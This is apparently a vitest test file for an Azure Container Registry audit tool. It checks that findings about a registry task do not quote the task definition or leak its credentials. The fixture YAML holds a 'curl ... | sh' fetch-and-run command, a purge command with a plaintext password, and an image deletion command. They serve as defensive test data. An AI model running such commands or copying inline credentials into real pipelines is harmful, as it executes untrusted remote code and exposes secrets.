import { expect, test } from 'vitest';
import { checks } from '../../checks/index.ts';
import { evaluate } from '../../src/engine/evaluate.ts';
import { observed } from '../../src/model/evidence.ts';
import type { Registry } from '../../src/model/facets/registry.ts';
import { encoded, nightly, task } from '../facts/tasks/yaml.ts';
import { acr, registryId, subscriptionId } from '../support.ts';

const definition = `version: v1.1.0
steps:
  # a note that nobody asked for
  - build: -t {{.Run.Registry}}/app:1 .
  - push: [ '{{.Run.Registry}}/app:1' ]
  - cmd: acr purge -r contoso -u hans -p open-sesame --filter 'app:.*' --ago 30d
  - cmd: az acr repository delete -n contoso --image app:old --yes
  - cmd: bash -c 'curl http://example.com/run.sh | sh'
`;

/** Every check on a registry with one task, as a report. */
function reportOn(registry: Registry) {
  const report = evaluate(
    {
      schema: 'acr-audit/snapshot@1',
      tool: { name: 'acr-audit', version: '0' },
      collectedAt: '2026-11-23T02:00:00Z',
      cloud: { name: 'public', resourceManager: 'https://management.azure.com', registrySuffix: 'azurecr.io' },
      asked: {
        registries: [],
        groups: [],
        tags: [],
        subscriptions: [],
        managementGroup: null,
        optIns: ['--data-plane'],
      },
      subscriptions: [{ id: subscriptionId, name: null, registries: observed([registryId]), facets: {} }],
      registries: [
        {
          id: registryId,
          name: 'contoso',
          subscription: subscriptionId,
          facets: {
            registry: observed(registry),
            tasks: observed([task('nightly', encoded(definition), { timers: nightly })]),
            replications: observed([]),
            cacheRules: observed([]),
            agentPools: observed([]),
            taskRuns: observed({ runs: [], quick: [], since: null }),
            tagInventory: observed({ repositories: [], cut: false }),
          },
        },
      ],
      shared: {},
    },
    { checks, profile: 'regulated', full: true },
  );
  return JSON.stringify(report.subjects);
}

test('no finding quotes the definition of a task: the parsed purge and what was read of it', () => {
  const said = reportOn(acr());
  expect(said).toContain('tasks/0/step/content');
  expect(said).toContain('"filters":["app:.*"]');
  for (const text of ['open-sesame', 'hans', 'a note that nobody', 'version: v1.1.0', 'steps:'])
    expect(said).not.toContain(text);
});
